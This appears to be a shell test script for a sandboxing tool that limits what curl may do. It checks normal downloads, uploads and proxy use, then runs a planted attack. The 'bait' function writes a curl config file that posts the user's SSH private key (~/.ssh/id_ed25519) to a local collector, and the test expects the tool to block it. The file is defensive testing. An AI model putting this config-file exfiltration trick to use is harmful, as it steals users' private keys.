needs curl:/usr/bin/curl python3:/usr/bin/python3

given() {
    mkdir site ~/outbox
    echo 'a page from the web' >site/page.html
    echo 'a letter' >~/outbox/letter.txt
    printf '%s\n' 'write-out = "%{http_code}\n"' >~/.curlrc
}

works() {
    serve_site 80 site
    $ward curl -s -o page.html http://127.0.0.1/page.html
    $ward curl -s -T ~/outbox/letter.txt http://127.0.0.1/
    http_proxy=http://127.0.0.1:80 $ward curl -s http://elsewhere.test/page.html
}

attack='a configuration file that came with a download sends a private key away'
goal='stolen'
denied='read ~/.ssh/id_ed25519'
bait() {
    printf 'url = "http://127.0.0.1:8080/"\ndata-binary = "@%s"\nmax-time = 5\n' "$HOME/.ssh/id_ed25519" >download.conf
}
attack() {
    collect 8080
    $ward curl -s -K download.conf
}
